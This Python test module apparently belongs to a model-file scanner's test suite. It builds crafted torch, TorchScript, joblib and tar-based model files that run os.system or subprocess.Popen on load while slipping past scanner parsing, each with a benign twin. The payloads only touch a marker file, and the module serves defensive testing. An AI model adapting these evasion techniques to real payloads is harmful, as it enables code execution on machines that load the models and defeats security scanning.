"""Attack techniques from a red-team audit of the scanner, each with its benign twin.

Each one is a place where modelport read a file differently from its loader: a torch zip
whose prefix is ``data`` (so ``data/data.pkl`` looks like a tensor storage), member names
that torch's zip lookup matches ignoring case, joblib's array bytes that every loader but
joblib runs as opcodes, tar members that ``tarfile`` reads and a hand-written walker skips,
joblib's ``ZF`` length without ``0x``, and a protocol-4 dotted name that walks through a
module to ``subprocess``.

"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import torch

from tests.attacks.technique import (
    JOBLIB,
    PICKLE,
    TORCH_JIT,
    TORCH_UNSAFE,
    Make,
    Technique,
    file_technique,
)
from tests.attacks.writers import (
    _sealed,
    _tar_header,
    dtype,
    global_,
    joblib_stream,
    legacy_tar_members,
    plain,
    shell2,
    text,
    torch_zip,
    torchscript,
    touch,
    zip_archive,
)

# -- torch zips whose prefix is "data" -------------------------------------------------------------


class _Shell:
    """Pickles as ``os.system("touch MARKER")``: what torch.save writes for an object whose
    ``__reduce__`` names a shell call."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return (os.system, (touch(self.marker),))


def _saved_as_data(tmp: Path, marker: Path | None) -> Path:
    """torch.save to ``data.pt``: torch names the archive's prefix after the file, so the
    main pickle is ``data/data.pkl`` and the storages ``data/data/<key>``."""
    state: dict[str, object] = {"weight": torch.arange(4, dtype=torch.float32)}
    if marker is not None:
        state["hook"] = _Shell(marker)
    path = tmp / "data.pt"
    torch.save(state, path)
    return path


def _members(raw: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _case_folded_pickle(marker: Path | None) -> bytes:
    """Prefix ``data``; the main pickle stored as ``data/data.PKL`` (miniz's lookup, which
    torch uses, ignores case) and a benign ``data/zz/data.pkl`` that names no tensor, so the
    archive still reads as a torch zip. The twin is the plain archive."""
    members = [(f"data/{n.partition('/')[2]}", d) for n, d in _members(torch_zip())]
    if marker is None:
        return zip_archive(members)
    renamed = {"data/data.pkl": ("data/data.PKL", shell2(marker))}
    evil = [renamed.get(name, (name, data)) for name, data in members]
    return zip_archive([*evil, ("data/zz/data.pkl", plain(2))])


# -- TorchScript code under case-changed names -----------------------------------------------------


def _script_renamed(rename: Callable[[str], str]) -> Make:
    """The scripted module, its code member renamed; with a marker, ``__setstate__`` (run by
    torch.jit.load) calls torch.save on a path under the marker, then torch.from_file on it.
    That native save fails silently where the marker is no folder; from_file's error,
    naming the path, shows the load got past the save."""

    def make(marker: Path | None) -> bytes:
        line = None
        if marker is not None:
            target = marker / "inside"
            line = (
                "    self.weight = (state)[0]\n"
                f'    torch.save(self.weight, "{target}")\n'
                f'    self.weight = torch.from_file("{target}", False, 2)\n'
            )
        return zip_archive([(rename(n), d) for n, d in _members(torchscript(line))])

    return make


def _upper_extension(name: str) -> str:
    return name[: -len(".py")] + ".PY" if name.endswith(".py") else name


def _upper_code_folder(name: str) -> str:
    return name.replace("/code/", "/CODE/", 1)


# -- joblib's array wrapper read by pickle.load ----------------------------------------------------

_U1 = dtype("u1", b"(K\x03V|\nNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")


def _wrapped_opcodes(marker: Path | None) -> bytes:
    """joblib's NumpyArrayWrapper for a uint8 array whose bytes are opcodes: POP the
    wrapper, then os.system("touch MARKER"). joblib.load reads them as the array;
    pickle.load and torch.load run them. The twin's array bytes are all STOP."""
    if marker is None:
        return joblib_stream(_U1, b"K\x04\x85", 4, b".")
    opcodes = b"0" + global_("os", "system") + text(touch(marker)) + b"\x85R"
    shape = b"M" + struct.pack("<H", len(opcodes)) + b"\x85"
    return joblib_stream(_U1, shape, 0, opcodes + b".")


# -- legacy torch tars read as tarfile reads them --------------------------------------------------

_END = b"\x00" * 1024


def _tar_member(name: bytes, data: bytes, typeflag: bytes = b"0") -> bytes:
    header = _tar_header(name, len(data), ustar=True)
    header[156:157] = typeflag
    return _sealed(header) + data + b"\x00" * (-len(data) % 512)


def _pax_record(key: str, value: str) -> bytes:
    """``"<length> <key>=<value>\\n"``, the length counting its own digits."""
    body = f" {key}={value}\n"
    length = len(body)
    while len(str(length)) + len(body) != length:
        length = len(str(length)) + len(body)
    return f"{length}{body}".encode()


def _legacy_members() -> bytes:
    """torch 0.1-0.3's benign members, ustar headers, no end blocks yet."""
    return b"".join(_tar_member(name, data) for name, data in legacy_tar_members())


def _benign_storages() -> bytes:
    return dict(legacy_tar_members())[b"storages"]


def _contiguous_storages(marker: Path | None) -> bytes:
    """A second ``storages`` member of type '7' (contiguous file): tarfile reads it as a
    regular file and torch extracts the last member of a name. The twin's copy is benign."""
    later = _benign_storages() if marker is None else shell2(marker)
    return _legacy_members() + _tar_member(b"storages", later, b"7") + _END


def _pax_sized_storages(marker: Path | None) -> bytes:
    """A pax header gives member ``junk`` size 0 while its ustar size covers a second
    ``storages`` member: tarfile honours the pax size and reads that member next."""
    later = _benign_storages() if marker is None else shell2(marker)
    hidden = _tar_member(b"storages", later)
    records = _pax_record("size", "0")
    pax = _tar_member(b"././@PaxHeader", records, b"x")
    junk = _sealed(_tar_header(b"junk", len(hidden), ustar=True))
    return _legacy_members() + pax + junk + hidden + _END


# -- joblib's ZF format and dotted names -----------------------------------------------------------


def _zfile_bare_hex(data: bytes) -> bytes:
    """joblib's pre-0.9.3 'ZF' file with the length written ``%x``: joblib accepts any
    'ZF' start and parses the field with int(field, 16), which needs no ``0x``."""
    return b"ZF" + f"{len(data):x}".rjust(19).encode() + zlib.compress(data)


def _unicode(value: str) -> bytes:
    """SHORT_BINUNICODE: a one-byte length."""
    encoded = value.encode()
    assert len(encoded) < 256, value
    return b"\x8c" + bytes([len(encoded)]) + encoded


def _dotted_popen(marker: Path) -> bytes:
    """Protocol 4: STACK_GLOBAL("torch", "_strobelight.cli_function_profiler.subprocess.
    Popen"), which pickle resolves attribute by attribute through a module that imported
    subprocess, called with ["touch", MARKER]."""
    qualname = "_strobelight.cli_function_profiler.subprocess.Popen"
    argv = b"](" + _unicode("touch") + _unicode(str(marker)) + b"e"
    return b"\x80\x04" + _unicode("torch") + _unicode(qualname) + b"\x93" + argv + b"\x85R."


BYPASSES: tuple[Technique, ...] = (
    Technique(
        "torch-zip-prefix-data",
        "container",
        _saved_as_data,
        lambda tmp: _saved_as_data(tmp, None),
        TORCH_UNSAFE,
        False,
        "torch.save to data.pt: the prefix is 'data', so the main pickle is data/data.pkl, "
        "which a rule 'members under data/ are tensor bytes' never parses",
    ),
    file_technique(
        "torch-zip-member-case",
        "container",
        "data.pt",
        _case_folded_pickle,
        TORCH_UNSAFE,
        False,
        "the main pickle named data/data.PKL (torch's miniz lookup ignores case) beside a "
        "benign data/zz/data.pkl: a case-sensitive reader takes the first for a storage",
    ),
    file_technique(
        "torchscript-code-extension-case",
        "code",
        "scripted.pt",
        _script_renamed(_upper_extension),
        TORCH_JIT,
        True,
        "code/__torch__/....PY: torch.jit.load finds and compiles it (case-insensitive "
        "lookup), and its __setstate__ calls torch.save on a path the file names",
    ),
    file_technique(
        "torchscript-code-folder-case",
        "code",
        "scripted.pt",
        _script_renamed(_upper_code_folder),
        TORCH_JIT,
        True,
        "the code folder named CODE/: torch.jit.load still compiles what is under it, and "
        "its __setstate__ calls torch.save on a path the file names",
    ),
    file_technique(
        "joblib-wrapper-hides-opcodes",
        "reading",
        "model.pkl",
        _wrapped_opcodes,
        PICKLE,
        True,
        "joblib's NumpyArrayWrapper, then array bytes that are opcodes: joblib reads them as "
        "data, pickle.load runs them; a scanner that skips them as joblib does sees nothing",
    ),
    file_technique(
        "joblib-wrapper-hides-opcodes-torch-zip",
        "reading",
        "model.pt",
        lambda m: torch_zip(_wrapped_opcodes(m)),
        TORCH_UNSAFE,
        False,
        "the same wrapper and opcodes as a torch zip's data.pkl: torch.load's unpickler has "
        "no array skip and runs them",
    ),
    file_technique(
        "legacy-tar-contiguous-type",
        "container",
        "model.pt",
        _contiguous_storages,
        TORCH_UNSAFE,
        False,
        "a later 'storages' member of type '7' in torch 0.x's tar: tarfile extracts it as a "
        "regular file (the last of a name wins), a walker of types '0' and NUL skips it",
    ),
    file_technique(
        "legacy-tar-pax-size",
        "container",
        "model.pt",
        _pax_sized_storages,
        TORCH_UNSAFE,
        False,
        "a pax 'size=0' on a member whose ustar size hides a second 'storages': tarfile "
        "reads that member, a walker that trusts the ustar size jumps over it",
    ),
    file_technique(
        "joblib-zf-without-0x",
        "stream",
        "model.joblib",
        lambda m: _zfile_bare_hex(plain(2) if m is None else shell2(m)),
        JOBLIB,
        True,
        "joblib's 'ZF' file with its length in hex but no '0x': joblib.load reads it, a "
        "magic table that wants 'ZF0x' calls it unrecognised",
    ),
    file_technique(
        "dotted-global-through-module",
        "call",
        "model.pkl",
        lambda m: plain(4) if m is None else _dotted_popen(m),
        PICKLE,
        True,
        "protocol 4 resolves torch + _strobelight.cli_function_profiler.subprocess.Popen "
        "attribute by attribute: a third-party CapWords name that is subprocess.Popen",
    ),
)
